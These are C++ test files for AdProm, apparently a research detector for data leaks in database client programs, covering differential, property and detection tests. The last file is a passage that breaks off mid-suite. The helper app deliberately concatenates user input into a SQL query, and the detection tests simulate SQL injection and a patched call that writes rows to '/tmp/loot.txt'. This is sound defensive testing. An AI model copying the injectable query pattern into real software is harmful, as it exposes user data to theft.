#include <cstdint>
#include <cstring>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "apps/corpus.h"
#include "core/adprom.h"
#include "core/detection_engine.h"
#include "util/thread_pool.h"

namespace adprom::core {
namespace {

uint64_t Bits(double v) {
  uint64_t bits = 0;
  std::memcpy(&bits, &v, sizeof(bits));
  return bits;
}

apps::CorpusApp MakeApp(int index) {
  switch (index) {
    case 0: return apps::MakeHospitalApp();
    case 1: return apps::MakeBankingApp();
    case 2: return apps::MakeSupermarketApp();
    case 3: return apps::MakeWebPortalApp();
    case 4: return apps::MakeGrepLike(12, 1);
    case 5: return apps::MakeGzipLike(10, 2);
    case 6: return apps::MakeSedLike(10, 3);
    default: return apps::MakeBashLike(25, 8, 4);
  }
}

constexpr int kNumApps = 8;

std::string AppParamName(const ::testing::TestParamInfo<int>& info) {
  static const char* names[] = {"Hospital", "Banking",  "Supermarket",
                                "WebPortal", "GrepLike", "GzipLike",
                                "SedLike",  "BashLike"};
  return names[info.param];
}

class BatchDifferentialTest : public ::testing::TestWithParam<int> {
 protected:
  /// Trains each app once per process.
  static const AdProm& Trained(int index) {
    static std::vector<std::unique_ptr<AdProm>>* cache =
        new std::vector<std::unique_ptr<AdProm>>(kNumApps);
    std::unique_ptr<AdProm>& slot = (*cache)[index];
    if (slot != nullptr) return *slot;
    const apps::CorpusApp app = MakeApp(index);
    auto program = prog::ParseProgram(app.source);
    EXPECT_TRUE(program.ok()) << app.name;
    ProfileOptions options;
    options.max_training_windows = 200;
    options.train.max_iterations = 5;
    auto system =
        AdProm::Train(*program, app.db_factory, app.test_cases, options);
    EXPECT_TRUE(system.ok()) << app.name << ": "
                             << system.status().ToString();
    slot = std::make_unique<AdProm>(std::move(system).value());
    return *slot;
  }

  static void ExpectSameVerdicts(
      const std::vector<std::vector<Detection>>& expected,
      const std::vector<std::vector<Detection>>& got,
      const std::string& label, bool compare_scores) {
    ASSERT_EQ(expected.size(), got.size()) << label;
    for (size_t i = 0; i < expected.size(); ++i) {
      ASSERT_EQ(expected[i].size(), got[i].size())
          << label << " trace " << i;
      for (size_t w = 0; w < expected[i].size(); ++w) {
        const Detection& e = expected[i][w];
        const Detection& g = got[i][w];
        const std::string where =
            label + " trace " + std::to_string(i) + " window " +
            std::to_string(w);
        EXPECT_EQ(e.flag, g.flag) << where;
        EXPECT_EQ(e.window_start, g.window_start) << where;
        EXPECT_EQ(e.source_tables, g.source_tables) << where;
        EXPECT_EQ(e.detail, g.detail) << where;
        if (compare_scores) {
          EXPECT_EQ(Bits(e.score), Bits(g.score)) << where;
        }
      }
    }
  }
};

TEST_P(BatchDifferentialTest, BatchedVerdictsMatchUnbatchedAtEveryWidth) {
  const AdProm& system = Trained(GetParam());
  const ApplicationProfile& profile = system.profile();
  const std::vector<runtime::Trace>& traces = system.training_traces();
  ASSERT_FALSE(traces.empty());

  // Reference: the unbatched window-at-a-time scalar path.
  ApplicationProfile unbatched = profile;
  unbatched.options.batch_width = 0;
  const DetectionEngine reference(&unbatched);
  const auto expected = reference.MonitorTraces(traces);

  // Widths 1/3/5 leave sub-lane remainders on every SIMD arch; 32 is the
  // default W and 33 is one past it. no_simd pins the scalar kernels on
  // hardware that would dispatch to AVX2/NEON.
  for (const size_t width : {size_t{1}, size_t{3}, size_t{5}, size_t{32},
                             size_t{33}}) {
    for (const bool no_simd : {false, true}) {
      ApplicationProfile batched = profile;
      batched.options.batch_width = width;
      batched.options.no_simd = no_simd;
      const DetectionEngine engine(&batched);
      const auto got = engine.MonitorTraces(traces);
      ExpectSameVerdicts(expected, got,
                         "width=" + std::to_string(width) +
                             " no_simd=" + std::to_string(no_simd),
                         /*compare_scores=*/true);
    }
  }
}

TEST_P(BatchDifferentialTest, BatchedVerdictsMatchAcrossPoolSizes) {
  const AdProm& system = Trained(GetParam());
  const ApplicationProfile& profile = system.profile();
  const std::vector<runtime::Trace>& traces = system.training_traces();

  const DetectionEngine engine(&profile);
  const auto serial = engine.MonitorTraces(traces);
  for (size_t workers : {size_t{2}, size_t{4}}) {
    util::ThreadPool pool(workers);
    const auto pooled = engine.MonitorTraces(traces, &pool);
    ExpectSameVerdicts(serial, pooled,
                       "workers=" + std::to_string(workers),
                       /*compare_scores=*/true);
  }
}

TEST_P(BatchDifferentialTest, TriageNeverChangesAVerdict) {
  const AdProm& system = Trained(GetParam());
  const ApplicationProfile& profile = system.profile();
  const std::vector<runtime::Trace>& traces = system.training_traces();

  const DetectionEngine exact_engine(&profile);
  const auto expected = exact_engine.MonitorTraces(traces);

  ApplicationProfile triage_profile = profile;
  triage_profile.options.triage = true;
  const DetectionEngine triage_engine(&triage_profile);
  const auto got = triage_engine.MonitorTraces(traces);
  // Scores may legally differ on certified-benign windows (the reported
  // bound is a floor on the exact score); every verdict field must match.
  ExpectSameVerdicts(expected, got, "triage", /*compare_scores=*/false);

  // The bound is a floor: a triage score above the exact one would break
  // the certificate.
  for (size_t i = 0; i < expected.size(); ++i) {
    for (size_t w = 0; w < expected[i].size(); ++w) {
      EXPECT_LE(got[i][w].score, expected[i][w].score)
          << "trace " << i << " window " << w;
    }
  }
}

INSTANTIATE_TEST_SUITE_P(AllApps, BatchDifferentialTest,
                         ::testing::Range(0, kNumApps), AppParamName);

// Training-side differential: the batched Baum-Welch engine, the batched
// CSDS early-stopping scorer, and the batched threshold scan together must
// construct a *byte-identical* profile — the chosen detection threshold
// included — for every batch width, SIMD pin, and thread count. The dense
// reference profile is the anchor.
TEST(BatchTrainDifferentialTest, ConstructedProfileAndThresholdBitIdentical) {
  const apps::CorpusApp app = apps::MakeGrepLike(12, 1);
  auto program = prog::ParseProgram(app.source);
  ASSERT_TRUE(program.ok());

  auto train = [&](size_t batch_width, bool no_simd, bool dense_kernels,
                   int threads) {
    ProfileOptions options;
    options.max_training_windows = 160;
    options.train.max_iterations = 4;
    options.train.num_threads = threads;
    options.dense_kernels = dense_kernels;
    options.batch_width = batch_width;
    options.no_simd = no_simd;
    auto system =
        AdProm::Train(*program, app.db_factory, app.test_cases, options);
    EXPECT_TRUE(system.ok()) << system.status().ToString();
    return std::make_unique<AdProm>(std::move(system).value());
  };

  const auto reference =
      train(/*batch_width=*/0, /*no_simd=*/true, /*dense_kernels=*/true,
            /*threads=*/1);
  const std::string expected = reference->profile().Serialize();
  const double expected_threshold = reference->profile().threshold;

  struct Config {
    size_t width;
    bool no_simd;
    int threads;
  };
  for (const Config& config : {Config{1, false, 1}, Config{7, false, 3},
                               Config{16, false, 1}, Config{16, true, 4}}) {
    const auto got = train(config.width, config.no_simd,
                           /*dense_kernels=*/false, config.threads);
    const std::string label = "width=" + std::to_string(config.width) +
                              " no_simd=" + std::to_string(config.no_simd) +
                              " threads=" + std::to_string(config.threads);
    EXPECT_EQ(Bits(got->profile().threshold), Bits(expected_threshold))
        << label;
    EXPECT_EQ(got->profile().Serialize(), expected) << label;
  }
}

}  // namespace
}  // namespace adprom::core
