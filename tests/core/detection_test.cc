// Detection-phase tests: the five attack classes from the paper's Table V,
// executed against the profile of the inventory app, plus flag semantics.

#include <gtest/gtest.h>

#include "attack/mutators.h"
#include "core/adprom.h"
#include "core/baselines.h"
#include "prog/program.h"
#include "tests/core/test_app.h"

namespace adprom::core {
namespace {

using core::testing::InventoryDbFactory;
using core::testing::InventoryTestCases;
using core::testing::kInventoryAppSource;

class DetectionTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto program = prog::ParseProgram(kInventoryAppSource);
    ASSERT_TRUE(program.ok());
    program_ = new prog::Program(std::move(program).value());
    auto adprom = AdProm::Train(*program_, InventoryDbFactory(),
                                InventoryTestCases());
    ASSERT_TRUE(adprom.ok()) << adprom.status().ToString();
    adprom_ = new AdProm(std::move(adprom).value());
    auto cmarkov = AdProm::Train(*program_, InventoryDbFactory(),
                                 InventoryTestCases(), CMarkovOptions());
    ASSERT_TRUE(cmarkov.ok()) << cmarkov.status().ToString();
    cmarkov_ = new AdProm(std::move(cmarkov).value());
  }

  static void TearDownTestSuite() {
    delete adprom_;
    delete cmarkov_;
    delete program_;
    adprom_ = nullptr;
    cmarkov_ = nullptr;
    program_ = nullptr;
  }

  static bool HasFlag(const AdProm::MonitorResult& result,
                      DetectionFlag flag) {
    for (const Detection& d : result.detections) {
      if (d.flag == flag) return true;
    }
    return false;
  }

  static prog::Program* program_;
  static AdProm* adprom_;
  static AdProm* cmarkov_;
};

prog::Program* DetectionTest::program_ = nullptr;
AdProm* DetectionTest::adprom_ = nullptr;
AdProm* DetectionTest::cmarkov_ = nullptr;

// --- Attack 1: a new print similar to one in another branch --------------
// Insert a print of the (TD-carrying) query handle at the end of
// list_items: the call *name* sequence looks plausible, but the block-id
// label is new.
TEST_F(DetectionTest, Attack1_SimilarPrintInOtherLocation) {
  attack::InsertOutputSpec spec;
  spec.function = "list_items";
  spec.variable = "r";
  spec.where = attack::InsertWhere::kEnd;
  auto tampered = attack::InsertOutputStatement(*program_, spec);
  ASSERT_TRUE(tampered.ok()) << tampered.status().ToString();

  auto result =
      adprom_->Monitor(*tampered, InventoryDbFactory(), {{"list"}});
  ASSERT_TRUE(result.ok());
  EXPECT_TRUE(result->HasAlarm());
  EXPECT_TRUE(result->ConnectedToSource());
  EXPECT_TRUE(HasFlag(*result, DetectionFlag::kDataLeak) ||
              HasFlag(*result, DetectionFlag::kOutOfContext));
}

TEST_F(DetectionTest, Attack1_UndetectedByCMarkov) {
  attack::InsertOutputSpec spec;
  spec.function = "list_items";
  spec.variable = "r";
  spec.where = attack::InsertWhere::kEnd;
  auto tampered = attack::InsertOutputStatement(*program_, spec);
  ASSERT_TRUE(tampered.ok());

  // CMarkov sees ... print, print, print, print ... — one extra print at
  // the end of an already print-heavy loop is within its normal model.
  auto result =
      cmarkov_->Monitor(*tampered, InventoryDbFactory(), {{"list"}});
  ASSERT_TRUE(result.ok());
  EXPECT_FALSE(result->HasAlarm());
}

// --- Attack 2: a new output call in a function that never outputs --------
TEST_F(DetectionTest, Attack2_PrintFromForeignFunction) {
  attack::InsertOutputSpec spec;
  spec.function = "main";
  spec.variable = "cmd";
  spec.where = attack::InsertWhere::kEnd;
  auto tampered = attack::InsertOutputStatement(*program_, spec);
  ASSERT_TRUE(tampered.ok());

  auto result =
      adprom_->Monitor(*tampered, InventoryDbFactory(), {{"list"}});
  ASSERT_TRUE(result.ok());
  EXPECT_TRUE(HasFlag(*result, DetectionFlag::kOutOfContext));
}

// --- Attack 3: reuse an existing print with a TD argument -----------------
TEST_F(DetectionTest, Attack3_ReusedPrintDetectedAndConnected) {
  // stats(): make the benign print("stats done") print the COUNT(*) value.
  auto tampered =
      attack::ReplaceCallArgument(*program_, "stats", "print",
                                  /*occurrence=*/1, /*arg_index=*/0, "n");
  ASSERT_TRUE(tampered.ok()) << tampered.status().ToString();

  auto result =
      adprom_->Monitor(*tampered, InventoryDbFactory(), {{"stats"}});
  ASSERT_TRUE(result.ok());
  EXPECT_TRUE(result->HasAlarm());
  EXPECT_TRUE(result->ConnectedToSource());
}

TEST_F(DetectionTest, Attack3_UndetectedByCMarkov) {
  auto tampered =
      attack::ReplaceCallArgument(*program_, "stats", "print",
                                  /*occurrence=*/1, /*arg_index=*/0, "n");
  ASSERT_TRUE(tampered.ok());
  // The call-name sequence is bit-for-bit identical to a normal stats run:
  // without data-flow labels there is nothing to see.
  auto result =
      cmarkov_->Monitor(*tampered, InventoryDbFactory(), {{"stats"}});
  ASSERT_TRUE(result.ok());
  EXPECT_FALSE(result->HasAlarm());
}

// --- Attack 4: binary patch adds a file-exfiltration call ----------------
TEST_F(DetectionTest, Attack4_BinaryPatchWritesFile) {
  attack::InsertOutputSpec spec;
  spec.function = "find_item";
  spec.variable = "row";
  spec.output_call = "write_file";
  spec.channel_arg = "/tmp/loot.txt";
  spec.where = attack::InsertWhere::kBodyOfFirstWhile;
  auto tampered = attack::InsertOutputStatement(*program_, spec);
  ASSERT_TRUE(tampered.ok()) << tampered.status().ToString();

  auto result =
      adprom_->Monitor(*tampered, InventoryDbFactory(), {{"find", "3"}});
  ASSERT_TRUE(result.ok());
  EXPECT_TRUE(result->HasAlarm());
  EXPECT_TRUE(result->ConnectedToSource());
  // The data actually leaked into the file channel.
  EXPECT_FALSE(result->io.files.empty());
}

// --- Attack 5: tautology SQL injection ------------------------------------
TEST_F(DetectionTest, Attack5_SqlInjectionDetected) {
  // No code change: the malicious *input* flips the query's selectivity,
  // so find_item prints every row instead of one.
  auto result = adprom_->Monitor(
      *program_, InventoryDbFactory(),
      {{"find", attack::TautologyPayload()}});
  ASSERT_TRUE(result.ok());
  EXPECT_TRUE(result->HasAlarm());
  EXPECT_TRUE(HasFlag(*result, DetectionFlag::kDataLeak));
  EXPECT_TRUE(result->ConnectedToSource());
  // The leak genuinely happened: all 30 items printed.
  EXPECT_GE(result->io.screen.size(), 30u);
}

TEST_F(DetectionTest, Attack5_BenignFindIsQuiet) {
  auto result =
      adprom_->Monitor(*program_, InventoryDbFactory(), {{"find", "3"}});
  ASSERT_TRUE(result.ok());
  EXPECT_FALSE(result->HasAlarm());
  EXPECT_EQ(result->io.screen.size(), 1u);
}

// --- Flag taxonomy ---------------------------------------------------------
TEST_F(DetectionTest, SourceTablesNameTheLeakedTable) {
  auto result = adprom_->Monitor(
      *program_, InventoryDbFactory(),
      {{"find", attack::TautologyPayload()}});
  ASSERT_TRUE(result.ok());
  bool items_named = false;
  for (const Detection& d : result->detections) {
    for (const std::string& table : d.source_tables) {
      if (table == "items") items_named = true;
    }
  }
  EXPECT_TRUE(items_named);
}

TEST_F(DetectionTest, AdaptiveThresholdSilencesAlarms) {
  // The paper's adaptive-threshold hook: lowering the threshold to -1e9
  // accepts everything (only score-based flags disappear; context
  // violations would persist).
  AdProm relaxed = [&] {
    auto system = AdProm::Train(*program_, InventoryDbFactory(),
                                InventoryTestCases());
    return std::move(system).value();
  }();
  relaxed.set_threshold(-1e9);
  auto result = relaxed.Monitor(*program_, InventoryDbFactory(),
                                {{"find", attack::TautologyPayload()}});
  ASSERT_TRUE(result.ok());
  EXPECT_FALSE(result->HasAlarm());
}

}  // namespace
}  // namespace adprom::core
