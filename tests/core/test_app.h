#ifndef ADPROM_TESTS_CORE_TEST_APP_H_
#define ADPROM_TESTS_CORE_TEST_APP_H_

#include <memory>
#include <string>
#include <vector>

#include "core/adprom.h"
#include "db/database.h"

namespace adprom::core::testing {

/// A small but realistic DB client used by the core/attack tests: a
/// command loop over an inventory database, with a deliberately vulnerable
/// string-concatenated query in find_item (the paper's Fig. 2 pattern) and
/// an untainted print in stats() for the Attack 3 scenario.
inline const char* kInventoryAppSource = R"(
fn main() {
  var cmd = scan();
  while (!is_null(cmd)) {
    if (cmd == "list") {
      list_items();
    } else if (cmd == "find") {
      find_item(scan());
    } else if (cmd == "stats") {
      stats();
    } else {
      print_err("unknown command: " + cmd);
    }
    cmd = scan();
  }
}

fn list_items() {
  var r = db_query("SELECT name FROM items ORDER BY id");
  var n = db_ntuples(r);
  var i = 0;
  while (i < n) {
    print(db_getvalue(r, i, 0));
    i = i + 1;
  }
}

fn find_item(id) {
  var r = db_query("SELECT * FROM items WHERE id='" + id + "'");
  var row = db_fetch_row(r);
  while (!is_null(row)) {
    print(row_get(row, 1));
    row = db_fetch_row(r);
  }
}

fn stats() {
  var r = db_query("SELECT COUNT(*) FROM items");
  var n = db_getvalue(r, 0, 0);
  if (to_int(n) > 100) {
    print("large inventory");
  }
  print("stats done");
}
)";

/// Fresh inventory database with `rows` items.
inline DbFactory InventoryDbFactory(int rows = 30) {
  return [rows]() {
    auto database = std::make_unique<db::Database>();
    database->Execute("CREATE TABLE items (id INT, name TEXT, price REAL)");
    for (int i = 0; i < rows; ++i) {
      database->Execute("INSERT INTO items VALUES (" + std::to_string(i) +
                        ", 'item" + std::to_string(i) + "', " +
                        std::to_string(i) + ".5)");
    }
    return database;
  };
}

/// A deterministic suite of normal test cases exercising all commands.
inline std::vector<TestCase> InventoryTestCases() {
  std::vector<TestCase> cases;
  cases.push_back({{"list"}});
  cases.push_back({{"stats"}});
  cases.push_back({{"find", "3"}});
  cases.push_back({{"find", "7"}});
  cases.push_back({{"find", "999"}});  // no match
  cases.push_back({{"list", "stats"}});
  cases.push_back({{"find", "1", "list"}});
  cases.push_back({{"stats", "find", "12"}});
  cases.push_back({{"bogus", "list"}});
  cases.push_back({{"list", "find", "5", "stats"}});
  for (int i = 0; i < 10; ++i) {
    cases.push_back({{"find", std::to_string(i * 2), "list"}});
  }
  return cases;
}

}  // namespace adprom::core::testing

#endif  // ADPROM_TESTS_CORE_TEST_APP_H_
