// Property test on randomly generated DB-client programs: the static
// taint analysis (the Analyzer's DDG labeling) over-approximates dynamic
// taint — every TD-labeled call event observed at run time corresponds to
// a statically labeled site with the same observable, and the whole
// pipeline (analysis invariants, training, benign monitoring) holds up on
// arbitrary program shapes.

#include <gtest/gtest.h>

#include <memory>
#include <set>

#include "core/adprom.h"
#include "prog/generator.h"
#include "prog/printer.h"

namespace adprom::core {
namespace {

DbFactory GenDb() {
  return [] {
    auto db = std::make_unique<db::Database>();
    db->Execute("CREATE TABLE gen (a INT, b TEXT)");
    for (int i = 0; i < 7; ++i) {
      db->Execute("INSERT INTO gen VALUES (" + std::to_string(i) +
                  ", 'row" + std::to_string(i) + "')");
    }
    return db;
  };
}

class DbProgramPropertyTest : public ::testing::TestWithParam<uint64_t> {
 protected:
  prog::Program Generate() {
    util::Rng rng(GetParam());
    prog::GeneratorOptions options;
    options.with_db_calls = true;
    options.num_functions = 3;
    // Bound nesting so nested loops cannot blow the trace volume up into
    // the hundreds of thousands of windows (the exact-threshold scoring
    // pass visits every window once).
    options.max_depth = 2;
    options.max_block_statements = 4;
    auto program = prog::GenerateRandomProgram(options, rng);
    EXPECT_TRUE(program.ok());
    return std::move(program).value();
  }
};

TEST_P(DbProgramPropertyTest, StaticTaintCoversDynamicTaint) {
  const prog::Program program = Generate();
  Analyzer analyzer;
  auto analysis = analyzer.Analyze(program);
  ASSERT_TRUE(analysis.ok()) << analysis.status().ToString();
  ASSERT_TRUE(analysis->program_ctm.CheckInvariants().ok())
      << prog::ProgramToSource(program);

  std::set<std::string> static_labels;
  for (size_t i = 0; i < analysis->program_ctm.num_sites(); ++i) {
    if (analysis->program_ctm.site(i).labeled) {
      static_labels.insert(analysis->program_ctm.site(i).observable);
    }
  }

  for (int run = 0; run < 3; ++run) {
    auto trace = AdProm::CollectTrace(
        program, analysis->cfgs, GenDb(),
        {{std::to_string(run), "alpha", std::to_string(run * 2)}});
    ASSERT_TRUE(trace.ok()) << trace.status().ToString() << "\n"
                            << prog::ProgramToSource(program);
    for (const runtime::CallEvent& event : *trace) {
      if (!event.td_output) continue;
      EXPECT_TRUE(static_labels.count(event.Observable()) > 0)
          << "dynamic label " << event.Observable()
          << " has no static counterpart in:\n"
          << prog::ProgramToSource(program);
    }
  }
}

TEST_P(DbProgramPropertyTest, PipelineTrainsAndBenignRunIsQuiet) {
  const prog::Program program = Generate();
  std::vector<TestCase> cases;
  for (int i = 0; i < 5; ++i) {
    cases.push_back({{std::to_string(i), "x", std::to_string(10 - i)}});
  }
  ProfileOptions options;
  options.train.max_iterations = 4;
  options.max_training_windows = 200;
  auto system = AdProm::Train(program, GenDb(), cases, options);
  if (!system.ok()) {
    // The only acceptable failure: a program that makes no library calls
    // on any path (the generator rarely produces one).
    EXPECT_EQ(system.status().code(), util::StatusCode::kFailedPrecondition)
        << system.status().ToString();
    return;
  }
  // Monitoring a training-distribution run raises no alarms.
  auto result = system->Monitor(program, GenDb(), {{"2", "x", "8"}});
  ASSERT_TRUE(result.ok());
  EXPECT_FALSE(result->HasAlarm()) << prog::ProgramToSource(program);
}

INSTANTIATE_TEST_SUITE_P(Seeds, DbProgramPropertyTest,
                         ::testing::Range<uint64_t>(100, 115));

}  // namespace
}  // namespace adprom::core
