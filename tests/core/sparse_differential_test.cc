// Corpus-wide sparse/dense differential suite: for every corpus
// application, training with the CSR kernels must produce a *byte-equal*
// serialized profile to training with the dense kernels, and monitoring
// every recorded trace must produce identical verdicts (flags, scores,
// provenance) for every pool size. This is the end-to-end enforcement of
// the kernels' bit-identity contract — any rounding divergence anywhere in
// forward/backward/E-step/scoring shows up here as a byte diff.

#include <gtest/gtest.h>

#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "apps/corpus.h"
#include "core/adprom.h"
#include "core/detection_engine.h"
#include "util/thread_pool.h"

namespace adprom::core {
namespace {

/// Small variants of the corpus apps (same shapes as the streaming
/// differential suite) with training bounded so the suite stays fast.
apps::CorpusApp MakeApp(int index) {
  switch (index) {
    case 0: return apps::MakeHospitalApp();
    case 1: return apps::MakeBankingApp();
    case 2: return apps::MakeSupermarketApp();
    case 3: return apps::MakeWebPortalApp();
    case 4: return apps::MakeGrepLike(12, 1);
    case 5: return apps::MakeGzipLike(10, 2);
    case 6: return apps::MakeSedLike(10, 3);
    default: return apps::MakeBashLike(25, 8, 4);
  }
}

constexpr int kNumApps = 8;

std::string AppParamName(const ::testing::TestParamInfo<int>& info) {
  static const char* names[] = {"Hospital", "Banking",  "Supermarket",
                                "WebPortal", "GrepLike", "GzipLike",
                                "SedLike",  "BashLike"};
  return names[info.param];
}

struct TrainedPair {
  std::string name;
  std::unique_ptr<AdProm> sparse;  // dense_kernels = false (default)
  std::unique_ptr<AdProm> dense;   // dense_kernels = true
};

class SparseDifferentialTest : public ::testing::TestWithParam<int> {
 protected:
  /// Trains each app once per process with each kernel flavour.
  static const TrainedPair& Trained(int index) {
    static std::vector<TrainedPair>* cache =
        new std::vector<TrainedPair>(kNumApps);
    TrainedPair& slot = (*cache)[index];
    if (slot.sparse != nullptr) return slot;
    const apps::CorpusApp app = MakeApp(index);
    auto program = prog::ParseProgram(app.source);
    EXPECT_TRUE(program.ok()) << app.name;
    slot.name = app.name;
    for (bool dense_kernels : {false, true}) {
      ProfileOptions options;
      options.max_training_windows = 200;
      options.train.max_iterations = 5;
      options.dense_kernels = dense_kernels;
      auto system =
          AdProm::Train(*program, app.db_factory, app.test_cases, options);
      EXPECT_TRUE(system.ok()) << app.name << ": "
                               << system.status().ToString();
      if (!system.ok()) continue;
      auto& target = dense_kernels ? slot.dense : slot.sparse;
      target = std::make_unique<AdProm>(std::move(system).value());
    }
    return slot;
  }
};

TEST_P(SparseDifferentialTest, TrainingIsByteIdenticalAcrossKernels) {
  const TrainedPair& app = Trained(GetParam());
  ASSERT_NE(app.sparse, nullptr) << app.name;
  ASSERT_NE(app.dense, nullptr) << app.name;
  // Byte-equal serialization covers the HMM parameters (at full %.17g
  // precision), the threshold, the alphabet and the context set at once.
  // (dense_kernels itself is runtime-only and never serialized.)
  EXPECT_EQ(app.sparse->profile().Serialize(),
            app.dense->profile().Serialize())
      << app.name << ": sparse and dense training diverged";
}

TEST_P(SparseDifferentialTest, VerdictsMatchAcrossKernelsForAnyPoolSize) {
  const TrainedPair& app = Trained(GetParam());
  ASSERT_NE(app.sparse, nullptr) << app.name;
  const ApplicationProfile& sparse_profile = app.sparse->profile();
  ApplicationProfile dense_profile = sparse_profile;
  dense_profile.options.dense_kernels = true;
  const DetectionEngine sparse_engine(&sparse_profile);
  const DetectionEngine dense_engine(&dense_profile);
  const std::vector<runtime::Trace>& traces = app.sparse->training_traces();
  ASSERT_FALSE(traces.empty()) << app.name;

  for (size_t workers = 0; workers <= 4; ++workers) {
    std::optional<util::ThreadPool> pool;
    if (workers > 0) pool.emplace(workers);
    util::ThreadPool* pool_ptr = pool.has_value() ? &*pool : nullptr;
    const auto sparse_verdicts = sparse_engine.MonitorTraces(traces, pool_ptr);
    const auto dense_verdicts = dense_engine.MonitorTraces(traces, pool_ptr);
    ASSERT_EQ(sparse_verdicts.size(), dense_verdicts.size());
    for (size_t i = 0; i < traces.size(); ++i) {
      const auto& s = sparse_verdicts[i];
      const auto& d = dense_verdicts[i];
      ASSERT_EQ(s.size(), d.size()) << app.name << " trace " << i;
      for (size_t w = 0; w < s.size(); ++w) {
        const std::string label = app.name + " trace " + std::to_string(i) +
                                  " window " + std::to_string(w) +
                                  " workers=" + std::to_string(workers);
        EXPECT_EQ(s[w].flag, d[w].flag) << label;
        EXPECT_EQ(s[w].score, d[w].score) << label;
        EXPECT_EQ(s[w].window_start, d[w].window_start) << label;
        EXPECT_EQ(s[w].source_tables, d[w].source_tables) << label;
        EXPECT_EQ(s[w].detail, d[w].detail) << label;
      }
    }
  }
}

TEST_P(SparseDifferentialTest, SerializedProfileUsesSparseSection) {
  const TrainedPair& app = Trained(GetParam());
  ASSERT_NE(app.sparse, nullptr) << app.name;
  const std::string text = app.sparse->profile().Serialize();
  EXPECT_EQ(text.rfind("adprom-profile v2\n", 0), 0u) << app.name;
  EXPECT_NE(text.find("\na-sparse\n"), std::string::npos) << app.name;
  // Reloading the sparse format reproduces the profile byte for byte.
  auto reloaded = ApplicationProfile::Deserialize(text);
  ASSERT_TRUE(reloaded.ok()) << app.name << ": "
                             << reloaded.status().ToString();
  EXPECT_EQ(reloaded->Serialize(), text) << app.name;
}

INSTANTIATE_TEST_SUITE_P(AllApps, SparseDifferentialTest,
                         ::testing::Range(0, kNumApps), AppParamName);

}  // namespace
}  // namespace adprom::core
