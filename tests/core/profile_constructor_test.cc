// Unit tests of the Profile Constructor's option paths: the PCA+k-means
// reduction pipeline, training-window caps, and degenerate inputs.

#include "core/profile_constructor.h"

#include <gtest/gtest.h>

#include "core/adprom.h"
#include "db/schema.h"
#include "prog/generator.h"
#include "prog/program.h"

namespace adprom::core {
namespace {

/// A mid-size generated program plus traces from a few random inputs.
struct Workbench {
  prog::Program program;
  AnalysisResult analysis;
  std::vector<runtime::Trace> traces;
};

Workbench MakeWorkbench(uint64_t seed, size_t functions = 6) {
  util::Rng rng(seed);
  prog::GeneratorOptions gen_options;
  gen_options.num_functions = functions;
  auto program = prog::GenerateRandomProgram(gen_options, rng);
  EXPECT_TRUE(program.ok());
  Analyzer analyzer;
  auto analysis = analyzer.Analyze(*program);
  EXPECT_TRUE(analysis.ok());
  std::vector<TestCase> cases;
  for (int i = 0; i < 6; ++i) {
    cases.push_back({{std::to_string(i), "alpha", "beta"}});
  }
  auto traces = AdProm::CollectTraces(*program, analysis->cfgs, nullptr,
                                      cases);
  EXPECT_TRUE(traces.ok());
  return {std::move(program).value(), std::move(analysis).value(),
          std::move(traces).value()};
}

TEST(ProfileConstructorTest, ZeroMassRowFallsBackToUniform) {
  // A call site on a pruned-infeasible branch has no static mass anywhere
  // in the pCTM. Its transition and emission rows must fall back to the
  // uniform distribution (kRowMassEpsilon) instead of an all-zero row,
  // which Validate() would reject.
  auto program = prog::ParseProgram(R"(
fn main() {
  var x = 1;
  if (x > 0) { print("live"); } else { print("dead"); }
  print("tail");
}
)");
  ASSERT_TRUE(program.ok());
  Analyzer analyzer;  // absint refinement on by default
  auto analysis = analyzer.Analyze(*program);
  ASSERT_TRUE(analysis.ok());
  ASSERT_EQ(analysis->refinement.pruned_edges, 1u);
  auto traces =
      AdProm::CollectTraces(*program, analysis->cfgs, nullptr, {{{}}});
  ASSERT_TRUE(traces.ok()) << traces.status().ToString();

  ProfileOptions options;
  options.train.max_iterations = 0;  // inspect the statically-seeded model
  ProfileConstructor constructor(options);
  auto profile = constructor.Construct(*analysis, *traces);
  ASSERT_TRUE(profile.ok()) << profile.status().ToString();
  ASSERT_EQ(profile->num_states, profile->num_sites);  // identity states

  // Locate the dead site: the only one the refined forecast never reaches.
  const analysis::Ctm& pctm = analysis->program_ctm;
  int dead = -1;
  for (size_t i = 0; i < pctm.num_sites(); ++i) {
    if (pctm.Inflow(i) == 0.0) {
      EXPECT_EQ(dead, -1) << "more than one dead site";
      dead = static_cast<int>(i);
    }
  }
  ASSERT_GE(dead, 0);

  // The fallback (then smoothing, which preserves uniformity) leaves the
  // dead state's rows exactly uniform.
  const size_t n = profile->num_states;
  const auto row = static_cast<size_t>(dead);
  for (size_t t = 0; t < n; ++t) {
    EXPECT_DOUBLE_EQ(profile->model.a().At(row, t),
                     1.0 / static_cast<double>(n));
  }
  EXPECT_TRUE(profile->model.Validate().ok());
}

TEST(ProfileConstructorTest, IdentityStatesBelowThreshold) {
  Workbench bench = MakeWorkbench(11);
  ProfileOptions options;
  options.train.max_iterations = 2;
  ProfileConstructor constructor(options);
  auto profile = constructor.Construct(bench.analysis, bench.traces);
  ASSERT_TRUE(profile.ok()) << profile.status().ToString();
  EXPECT_EQ(profile->num_states, profile->num_sites);
  EXPECT_TRUE(profile->model.Validate().ok());
}

TEST(ProfileConstructorTest, ClusteringReducesStates) {
  Workbench bench = MakeWorkbench(12);
  ProfileOptions options;
  options.cluster_threshold = 1;  // force the PCA + k-means path
  options.cluster_fraction = 0.3;
  options.train.max_iterations = 2;
  ProfileConstructor constructor(options);
  auto profile = constructor.Construct(bench.analysis, bench.traces);
  ASSERT_TRUE(profile.ok()) << profile.status().ToString();
  EXPECT_LT(profile->num_states, profile->num_sites);
  EXPECT_GE(profile->num_states, 2u);
  EXPECT_TRUE(profile->model.Validate().ok());
  // The reduced model still assigns every training window a finite score.
  DetectionEngine engine(&*profile);
  for (const runtime::Trace& trace : bench.traces) {
    for (const Detection& d : engine.MonitorTrace(trace)) {
      EXPECT_GT(d.score, -1e8);
    }
  }
}

TEST(ProfileConstructorTest, FeatureHashingPathMatchesDimCap) {
  Workbench bench = MakeWorkbench(13, /*functions=*/8);
  ProfileOptions options;
  options.cluster_threshold = 1;
  options.pca_input_cap = 16;  // force the hashing path even when small
  options.train.max_iterations = 1;
  ProfileConstructor constructor(options);
  auto profile = constructor.Construct(bench.analysis, bench.traces);
  ASSERT_TRUE(profile.ok()) << profile.status().ToString();
  EXPECT_TRUE(profile->model.Validate().ok());
}
